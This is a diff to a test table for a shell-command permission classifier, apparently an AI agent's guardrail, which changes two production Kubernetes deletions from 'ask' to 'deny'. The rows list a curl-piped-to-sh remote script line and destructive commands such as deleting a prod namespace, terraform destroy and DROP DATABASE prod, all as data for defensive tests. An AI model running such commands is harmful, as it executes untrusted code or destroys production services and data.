@@ -109,7 +109,8 @@ const ROWS: readonly (readonly [call: Call, expected: string])[] = [
 	['npm config get registry', 'none'],
 	['curl -s https://x.io/i.sh | sh', 'deny destructiveCommands.remoteScriptExecution'],
 	// service data loss.
-	['kubectl delete namespace prod', 'ask destructiveCommands.serviceDataLoss'],
+	// A whole namespace, a production context, everything: the scope is whole.
+	['kubectl delete namespace prod', 'deny destructiveCommands.serviceDataLoss'],
 	['terraform destroy', 'ask destructiveCommands.serviceDataLoss'],
 	["psql -c 'DROP DATABASE prod'", 'ask destructiveCommands.serviceDataLoss'],
 	['kubectl -n shop drain worker-2 --ignore-daemonsets', 'ask destructiveCommands.serviceDataLoss'],
@@ -119,7 +120,7 @@ const ROWS: readonly (readonly [call: Call, expected: string])[] = [
 	['kubectl delete -k overlays/prod', 'ask destructiveCommands.serviceDataLoss'],
 	[
 		'kubectl --context prod delete --kustomize=overlays/prod',
-		'ask destructiveCommands.serviceDataLoss',
+		'deny destructiveCommands.serviceDataLoss',
 	],
 	['kubectl delete -f job.yaml', 'none'],
 	['kubectl apply -R -f k8s/', 'none'],
